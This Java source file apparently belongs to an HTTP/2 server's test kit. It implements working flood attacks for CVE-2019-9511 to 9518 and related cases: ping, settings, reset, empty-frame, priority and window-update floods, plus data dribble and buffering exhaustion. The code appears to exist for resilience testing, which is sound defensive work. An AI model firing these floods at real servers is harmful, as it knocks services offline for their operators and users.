package dev.weir.attack;

import static dev.weir.wire.testkit.Http2Wire.CONTINUATION;
import static dev.weir.wire.testkit.Http2Wire.DATA;
import static dev.weir.wire.testkit.Http2Wire.END_HEADERS;
import static dev.weir.wire.testkit.Http2Wire.END_STREAM;
import static dev.weir.wire.testkit.Http2Wire.HEADERS;
import static dev.weir.wire.testkit.Http2Wire.PING;
import static dev.weir.wire.testkit.Http2Wire.PRIORITY;
import static dev.weir.wire.testkit.Http2Wire.PRIORITY_UPDATE;
import static dev.weir.wire.testkit.Http2Wire.PUSH_PROMISE;
import static dev.weir.wire.testkit.Http2Wire.SETTINGS;

import dev.weir.wire.testkit.Http2Wire;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Attacks by frames that do nothing, or next to nothing, in great numbers: CVE-2019-9511 to 9518 and their kin. */
public final class Floods {
    /** SETTINGS_INITIAL_WINDOW_SIZE. */
    private static final int INITIAL_WINDOW = 4;

    private static final int PLACES = 16;

    private Floods() {}

    /** All of them but {@link #buffering}, which may only ask for as much as the server lets it. */
    public static List<Http2Attack> all() {
        return List.of(
                dribble(),
                ping(),
                pingAck(),
                resourceLoop(),
                provokedResets(),
                settings(),
                manySettings(),
                emptyFields(),
                emptyData(),
                emptyPaddedData(),
                emptyHeaders(),
                emptyPromises(),
                unknown(),
                priority(),
                priorityUpdate(),
                priorityUpdatesOfManyStreams(),
                connectionWindow(),
                streamWindow());
    }

    /** Asks for much, and lets it come octet by octet. */
    public static Http2Attack dribble() {
        return Http2Attack.begun("data dribble, CVE-2019-9511", new int[] {INITIAL_WINDOW, 0}, (wire, _, size) -> {
            for (int stream = 1; stream < 2 * PLACES; stream += 2) {
                wire.get(stream, "/bytes/1000000");
            }
            for (int i = 0; i < size; i++) {
                wire.window(1 + 2 * (i % PLACES), 1);
            }
        });
    }

    /** Has the server answer. */
    public static Http2Attack ping() {
        return Http2Attack.begun("ping flood, CVE-2019-9512", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PING, 0, 0, new byte[8]);
            }
        });
    }

    /** Answers what was not asked (RFC 9113 section 6.7 has nothing against it). */
    public static Http2Attack pingAck() {
        return Http2Attack.begun("flood of answers to pings that were not asked", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PING, Http2Wire.ACK, 0, new byte[8]);
            }
        });
    }

    /** Has a few streams change places in the tree, on and on. */
    public static Http2Attack resourceLoop() {
        return Http2Attack.begun("resource loop, CVE-2019-9513", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                int stream = 1 + 2 * (i % PLACES);
                int parent = 1 + 2 * ((i * 7 + 3) % PLACES);
                if (stream != parent) {
                    wire.frame(PRIORITY, 0, stream, priority(parent, true, i));
                }
            }
        });
    }

    static byte[] priority(int parent, boolean exclusive, int weight) {
        return ByteBuffer.allocate(5)
                .putInt(parent | (exclusive ? Integer.MIN_VALUE : 0))
                .put((byte) weight)
                .array();
    }

    /** Has the server refuse request after request, each with a frame that it must send. */
    public static Http2Attack provokedResets() {
        return Http2Attack.begun("reset flood, CVE-2019-9514", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.headers(stream, true, ":method: GET");
            }
        });
    }

    /** Has the server acknowledge. */
    public static Http2Attack settings() {
        return Http2Attack.begun("settings flood, CVE-2019-9515", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(SETTINGS, 0, 0);
            }
        });
    }

    /** The same with frames as full as they may be, of a setting that changes every stream's window. */
    public static Http2Attack manySettings() {
        return Http2Attack.begun("settings flood with 2,730 settings a frame, CVE-2019-9515", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * PLACES; stream += 2) {
                wire.get(stream, "/delay/60000");
            }
            int[] pairs = new int[2 * 2730];
            for (int i = 0; i < pairs.length; i += 2) {
                pairs[i] = INITIAL_WINDOW;
                pairs[i + 1] = 65_535 - i;
            }
            // Such frames take long to make and to obey, while the budget fills up again.
            for (int i = 0; i < 8 * size; i++) {
                wire.settings(pairs);
            }
        });
    }

    /** Fields without a name and without a value. */
    public static Http2Attack emptyFields() {
        return Http2Attack.begun("0-length headers leak, CVE-2019-9516", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                ByteArrayOutputStream block = new ByteArrayOutputStream();
                block.writeBytes(
                        wire.block(":method: GET", ":scheme: " + wire.scheme(), ":path: /plaintext", ":authority: a"));
                for (int i = 0; i < 100; i++) {
                    // a literal that is not indexed, with a name of no length and a value of none
                    block.writeBytes(new byte[3]);
                }
                wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
            }
        });
    }

    /** Opens all windows, asks for much, and reads nothing; something is done when nothing more comes. */
    public static Http2Attack buffering(Runnable meanwhile) {
        int[] settings = {INITIAL_WINDOW, Integer.MAX_VALUE};
        return Http2Attack.begun("internal data buffering, CVE-2019-9517", settings, (wire, seen, size) -> {
            wire.window(0, Integer.MAX_VALUE - 65_535);
            seen.pause(true);
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.get(stream, "/bytes/10000000");
            }
            wire.flush();
            seen.awaitStandstill();
            meanwhile.run();
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.reset(stream, 8);
            }
            seen.pause(false);
        });
    }

    /** Content that is none and does not end. */
    public static Http2Attack emptyData() {
        return Http2Attack.begun("empty DATA flood, CVE-2019-9518", (wire, _, size) -> {
            wire.request(1, false, "POST", "/echo");
            for (int i = 0; i < size; i++) {
                wire.frame(DATA, 0, 1);
            }
        });
    }

    /** Padding alone: it counts against the windows, and is of no use but for that. */
    public static Http2Attack emptyPaddedData() {
        return Http2Attack.begun("empty DATA flood with padding, CVE-2019-9518", (wire, _, size) -> {
            wire.request(1, false, "POST", "/echo");
            for (int i = 0; i < size; i++) {
                wire.frame(DATA, Http2Wire.PADDED, 1, (byte) 0);
            }
        });
    }

    /** Blocks of fields that are empty, and go on in parts that are empty. */
    public static Http2Attack emptyHeaders() {
        return Http2Attack.begun("empty HEADERS and CONTINUATION flood, CVE-2019-9518", (wire, _, size) -> {
            wire.frame(HEADERS, END_STREAM, 1);
            for (int i = 0; i < size; i++) {
                wire.frame(CONTINUATION, 0, 1);
            }
        });
    }

    /** What a client must not send at all. */
    public static Http2Attack emptyPromises() {
        return Http2Attack.begun("empty PUSH_PROMISE flood, CVE-2019-9518", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PUSH_PROMISE, END_HEADERS, 1, Http2Wire.int32(2));
            }
        });
    }

    /** Empty frames of an unknown type. */
    public static Http2Attack unknown() {
        return Http2Attack.begun("flood of empty frames of unknown types", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(0xbe, 0, 0);
            }
        });
    }

    /** PRIORITY for streams that there are not. */
    public static Http2Attack priority() {
        return Http2Attack.begun("priority flood, CVE-2019-9513", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PRIORITY, 0, 1 + 2 * i, priority(0, false, i));
            }
        });
    }

    /** PRIORITY_UPDATE for streams to come, as many as may be open. */
    public static Http2Attack priorityUpdate() {
        return Http2Attack.begun("priority update flood", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                priorityUpdate(wire, 1 + 2 * (i % 100));
            }
        });
    }

    /** RFC 9218 section 7.1: for more of them. */
    public static Http2Attack priorityUpdatesOfManyStreams() {
        return Http2Attack.begun("priority updates of more streams than may be open", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                priorityUpdate(wire, 1 + 2 * i);
            }
        });
    }

    private static void priorityUpdate(Http2Wire wire, int stream) throws IOException {
        byte[] value = "u=1, i".getBytes(StandardCharsets.US_ASCII);
        wire.frame(
                PRIORITY_UPDATE,
                0,
                0,
                ByteBuffer.allocate(4 + value.length).putInt(stream).put(value).array());
    }

    /** The connection's window grows octet by octet. */
    public static Http2Attack connectionWindow() {
        return Http2Attack.begun("flood of WINDOW_UPDATE on the connection", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.window(0, 1);
            }
        });
    }

    /** A stream's window does. */
    public static Http2Attack streamWindow() {
        return Http2Attack.begun("flood of WINDOW_UPDATE on a stream", (wire, _, size) -> {
            wire.get(1, "/delay/60000");
            for (int i = 0; i < size; i++) {
                wire.window(1, 1);
            }
        });
    }
}
